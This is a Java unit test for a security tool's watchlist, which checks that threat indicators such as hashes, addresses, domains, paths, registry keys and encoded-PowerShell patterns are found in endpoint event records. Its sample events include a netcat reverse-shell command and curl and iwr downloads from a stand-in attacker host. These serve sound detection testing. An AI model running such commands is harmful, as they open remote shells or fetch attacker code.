package bzh.vigie.collector.detect.watchlist;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.intel.ImportOptions;
import bzh.vigie.collector.intel.Imported;
import bzh.vigie.collector.intel.Indicator;
import bzh.vigie.collector.intel.IndicatorFile;
import bzh.vigie.collector.intel.RefusalReason;
import bzh.vigie.collector.intel.Tlp;
import bzh.vigie.collector.store.Indicators.Listed;
import bzh.vigie.watchlist.NamedLocation;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

final class WatchlistTest {
    private static final String SHA256 = "70188c4baa02dee02153e44bc5cb966a263d5f0e4e0d2c3935b9cd010f2e01da";
    private static final String MD5 = "90b94525f53fac3ead8e6a5487371553";

    private static Listed listed(Indicator indicator) {
        return new Listed(Listed.id(Optional.empty(), indicator), Optional.empty(), indicator, Instant.EPOCH, "test");
    }

    /** Those of a CSV file of types and values, with what is to be confirmed. */
    private static List<Listed> listed(String csv) throws IOException {
        Imported imported = IndicatorFile.read(
                () -> new ByteArrayInputStream(("type,value\n" + csv).getBytes(StandardCharsets.UTF_8)),
                ImportOptions.of("test", Tlp.GREEN));
        assertEquals(
                List.of(),
                imported.refused().stream()
                        .filter(each -> each.code() != RefusalReason.TWICE)
                        .toList());
        List<Listed> all = new ArrayList<>();
        imported.accepted().forEach(each -> all.add(listed(each)));
        imported.toConfirm().forEach(each -> all.add(listed(each.indicator())));
        return all;
    }

    private static String seen(String csv, String... fields) throws IOException {
        Map<String, String> record = new HashMap<>();
        for (int i = 0; i < fields.length; i += 2) {
            record.put(fields[i], fields[i + 1]);
        }
        List<String> seen = new ArrayList<>();
        for (Sighting sighting : new Watchlist(listed(csv)).seenIn(record)) {
            seen.add(sighting.listed().indicator().what().type() + "@" + sighting.field());
        }
        return String.join(" ", seen);
    }

    private static String named(String csv, NamedLocation location, String name, String source) throws IOException {
        return seen(csv, "location", location.id(), "name", name, "source", source);
    }

    /** A service's key and a unit of systemd as they stand on a machine; a value of a Run key is none of these. */
    @Test
    void anItemIsSeenByTheNameOfWhatItIsAbout() throws IOException {
        String key = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc\\Parameters";
        assertEquals(
                "service@name", named("service,evilsvc", NamedLocation.WINDOWS_SERVICE, "Parameters\\ServiceDll", key));
        assertEquals(
                "service@name",
                named(
                        "service,evil",
                        NamedLocation.LINUX_SERVICE,
                        "multi-user.target.wants/evil.service:ExecStart",
                        "/etc/systemd/system/evil.service"));
        assertEquals("task@name", named("task,evil", NamedLocation.LINUX_TIMER, "evil.timer", "/etc/x"));
        assertEquals("account@name", named("account,backup", NamedLocation.LINUX_ACCOUNT, "backup", "/etc/passwd"));
        assertEquals("account@name", named("account,backup", NamedLocation.LINUX_GROUP, "sudo/backup", "/etc/group"));
        for (String location : List.of(
                "windows.run-key.user",
                "linux.cron.user",
                "windows.browser.extension-user",
                "windows.service.performance",
                "linux.name-service")) {
            for (String kind : List.of("account", "service", "task")) {
                assertEquals("", seen(kind + ",backup", "location", location, "name", "backup"), location);
            }
        }
    }

    @Test
    void eachKindIsSeenWhereItStands() throws IOException {
        assertEquals(
                "sha256@Hashes",
                seen("sha256," + SHA256, "Hashes", "MD5=00,SHA256=" + SHA256.toUpperCase(java.util.Locale.ROOT)));
        assertEquals("md5@Hashes", seen("md5," + MD5, "Hashes", "SHA1=00,MD5=" + MD5 + ",IMPHASH=11"));
        assertEquals("sha256@sha256", seen("sha256," + SHA256, "sha256", SHA256));
        assertEquals("address@DestinationIp", seen("ip,192.0.2.7", "DestinationIp", "192.0.2.7"));
        assertEquals("address@CommandLine", seen("ip,192.0.2.7", "CommandLine", "nc 192.0.2.7:4444 -e sh"));
        assertEquals(
                "address@QueryResults", seen("ip,192.0.2.7", "QueryResults", "type: 5 a.example;::ffff:192.0.2.7;"));
        assertEquals("address@DestinationIp", seen("ip,2001:db8:0:0::7", "DestinationIp", "2001:db8:0:0:0:0:0:7"));
        assertEquals("cidr@source_address", seen("cidr,198.51.100.0/24", "source_address", "198.51.100.200"));
        assertEquals("domain@QueryName", seen("domain,evil.example.org", "QueryName", "c2.EVIL.example.org."));
        assertEquals(
                "domain@CommandLine",
                seen("domain,evil.example.org", "CommandLine", "curl https://evil.example.org:8443/x"));
        assertEquals(
                "url@CommandLine",
                seen("url,http://evil.example.org/a", "CommandLine", "iwr 'https://evil.example.org/a/b?c=1'"));
        assertEquals("account@account", seen("account,svc_backup2", "account", "SVC_Backup2"));
        assertEquals("account@TargetUserName", seen("account,svc_backup2", "TargetUserName", "VILLE\\svc_backup2"));
        assertEquals("sid@TargetSid", seen("sid,S-1-5-21-1-2-3-1105", "TargetSid", "S-1-5-21-1-2-3-1105"));
        assertEquals(
                "path@Image",
                seen("path,%APPDATA%\\evil\\a.exe", "Image", "C:\\Users\\x\\AppData\\Roaming\\Evil\\A.exe"));
        assertEquals("path@target", seen("path,C:\\ProgramData\\evil", "target", "C:\\ProgramData\\Evil\\x.dll"));
        assertEquals("path@CommandLine", seen("path,/opt/evil/run", "CommandLine", "sh -c '/opt/evil/run &'"));
        assertEquals("file-name@Image", seen("filename,evil tool.exe", "Image", "C:\\x\\Evil Tool.EXE"));
        assertEquals("file-name@CommandLine", seen("filename,evil.ps1", "CommandLine", "powershell -f evil.ps1"));
        assertEquals("file-name@Image", seen("filename,evil*.exe", "Image", "C:\\x\\evil77.exe"));
        assertEquals(
                "registry-key@source",
                seen(
                        "regkey,HKCU\\Software\\Evil",
                        "location",
                        "windows.run-key.user",
                        "source",
                        "HKU\\S-1-5-21-1-2-3-1001\\Software\\Evil"));
        assertEquals(
                "registry-key@TargetObject",
                seen(
                        "regkey,HKLM\\System\\ControlSet001\\Services\\Evil",
                        "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\Services\\Evil\\Start"));
        assertEquals(
                "registry-value@source",
                seen(
                        "regkey|value,HKLM\\Software\\Run\\Evil|evil.exe",
                        "source",
                        "HKLM\\Software\\Run",
                        "name",
                        "Evil",
                        "value",
                        "C:\\evil.exe"));
        assertEquals("service@ServiceName", seen("service,EvilSvc", "ServiceName", "evilsvc"));
        assertEquals("service@name", seen("service,evil", "location", "linux.systemd.service", "name", "evil.service"));
        assertEquals("task@TaskName", seen("task,Updater2", "TaskName", "\\Microsoft\\Updater2"));
        assertEquals(
                "key-fingerprint@name",
                seen(
                        "ssh-fingerprint,SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo",
                        "location",
                        "linux.ssh.authorized-keys",
                        "name",
                        "SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo"));
        assertEquals(
                "certificate@name",
                seen(
                        "thumbprint,AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01",
                        "location",
                        "windows.certificate.root",
                        "name",
                        "ABCDEF0123456789ABCDEF0123456789ABCDEF01"));
        assertEquals(
                "command@CommandLine",
                seen("command,-EncodedCommand *SQBFAFgA", "CommandLine", "powershell -encodedcommand  xSQBFAFgAy"));
        assertEquals(
                "stix-pattern@stix-pattern",
                seen(
                        "stix-pattern,[process:name = 'evil.exe' AND process:command_line LIKE '%-x%']",
                        "Image", "C:\\evil.exe", "CommandLine", "evil.exe -x"));
        assertEquals(
                "stix-pattern@stix-pattern",
                seen(
                        "stix-pattern,[network-traffic:dst_ref.value = '192.0.2.7' AND network-traffic:dst_port ="
                                + " 4444]",
                        "DestinationIp",
                        "192.0.2.7",
                        "DestinationPort",
                        "4444",
                        "SourceIp",
                        "192.0.2.1"));
    }

    @Test
    void whatOnlyLooksLikeItIsNotSeen() throws IOException {
        assertEquals("", seen("domain,evil.example.org", "QueryName", "notevil.example.org"));
        assertEquals("", seen("domain,evil.example.org", "QueryName", "evil.example.org.other.example"));
        assertEquals("", seen("ip,192.0.2.7", "CommandLine", "ping 192.0.2.70"));
        assertEquals("", seen("cidr,198.51.100.0/24", "source_address", "198.51.101.1"));
        assertEquals("", seen("path,C:\\ProgramData\\evil", "target", "C:\\ProgramData\\EvilTwin\\x.dll"));
        assertEquals("", seen("filename,evil.exe", "Image", "C:\\x\\notevil.exe"));
        assertEquals("", seen("url,http://evil.example.org/a", "CommandLine", "curl http://evil.example.org/abc"));
        assertEquals("", seen("service,EvilSvc", "account", "EvilSvc"));
        assertEquals("", seen("account,svc_backup2", "ServiceName", "svc_backup2"));
        assertEquals("", seen("regkey,HKCU\\Software\\Evil", "TargetObject", "HKU\\S-1-5-21-1\\Software\\EvilTwin\\a"));
        assertEquals(
                "",
                seen(
                        "regkey|value,HKLM\\Software\\Run\\Evil|evil.exe",
                        "source",
                        "HKLM\\Software\\Run",
                        "name",
                        "Evil",
                        "value",
                        "C:\\good.exe"));
        assertEquals("", seen("mutex,EvilMutex", "CommandLine", "EvilMutex"));
        assertEquals("", seen("sha256," + SHA256, "shape", SHA256, "before.sha256", SHA256));
    }

    /** However many there are, the same is seen as of each by itself. */
    @Test
    void manyTogetherSeeWhatEachSeesAlone() throws IOException {
        Random random = new Random(7);
        StringBuilder csv = new StringBuilder();
        List<String> words = List.of("alpha", "beta", "gamma", "delta", "evil", "a1", "xy");
        for (int i = 0; i < 300; i++) {
            String a = words.get(random.nextInt(words.size()));
            String b = words.get(random.nextInt(words.size())) + random.nextInt(4);
            csv.append(
                    switch (i % 8) {
                        case 0 -> "domain," + b + "." + a + ".example\n";
                        case 1 -> "ip,192.0.2." + random.nextInt(20) + "\n";
                        case 2 -> "cidr,192.0.2." + random.nextInt(256) + "/" + (24 + random.nextInt(8)) + "\n";
                        case 3 -> "path,C:\\" + a + "\\*\\" + b + ".exe\n";
                        case 4 -> "filename," + a + b + "*.dll\n";
                        case 5 -> "command,-" + a + " *" + b + "\n";
                        case 6 -> "regkey,HKLM\\Software\\" + a + "\\" + b + "\n";
                        default -> "url,http://" + a + ".example/" + b + "\n";
                    });
        }
        List<Listed> all = listed(csv.toString()).stream().distinct().toList();
        Watchlist together = new Watchlist(all);
        assertTrue(together.size() > 150);
        Map<String, Watchlist> each = new HashMap<>();
        all.forEach(listed -> each.put(listed.id(), new Watchlist(List.of(listed))));
        int seen = 0;
        for (int i = 0; i < 400; i++) {
            String a = words.get(random.nextInt(words.size()));
            String b = words.get(random.nextInt(words.size())) + random.nextInt(4);
            Map<String, String> record = Map.of(
                    "Image", "C:\\" + a + "\\q\\" + b + ".exe",
                    "ImageLoaded", "C:\\" + a + b + "z.dll",
                    "CommandLine", "run -" + a + " --" + b + " http://" + a + ".example/" + b + "/x",
                    "QueryName", "www." + b + "." + a + ".example",
                    "DestinationIp", "192.0.2." + random.nextInt(256),
                    "TargetObject", "HKLM\\SOFTWARE\\" + a + "\\" + b + "\\v");
            TreeSet<String> alone = new TreeSet<>();
            each.forEach((id, list) -> list.seenIn(record).forEach(sighting -> alone.add(id)));
            TreeSet<String> some = new TreeSet<>();
            together.seenIn(record)
                    .forEach(sighting -> some.add(sighting.listed().id()));
            assertEquals(alone, some);
            seen += some.size();
        }
        assertTrue(seen > 400, () -> "too little is seen for the test to tell anything");
    }

    @Test
    void nothingIsThrownWhateverAHostTells() throws IOException {
        Watchlist all = new Watchlist(listed("""
            domain,evil.example.org
            ip,192.0.2.7
            url,http://evil.example.org/a
            path,C:\\x\\*\\evil.exe
            command,*a*b*c*d*e*f
            regkey,HKLM\\Software\\Evil
            ssh-fingerprint,SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo
            stix-pattern,[process:command_line MATCHES '(evil|x)+y']
            """));
        Random random = new Random(3);
        String signs = "\\/.:*?%\n\u0000\ud800'\"@-#[]{}<> aZ0hHKLM\u202e";
        for (int i = 0; i < 5_000; i++) {
            StringBuilder value = new StringBuilder();
            int length = random.nextInt(60);
            for (int j = 0; j < length; j++) {
                value.append(signs.charAt(random.nextInt(signs.length())));
            }
            for (String field : List.of(
                    "Image",
                    "source",
                    "name",
                    "CommandLine",
                    "QueryName",
                    "account",
                    "TaskName",
                    "TargetObject",
                    "Hashes")) {
                assertTrue(all.seenIn(Map.of(field, value.toString())).size() <= 8);
            }
        }
        assertTrue(all.seenIn(Map.of("CommandLine", "abcde".repeat(100_000))).size() <= 8);
    }
}
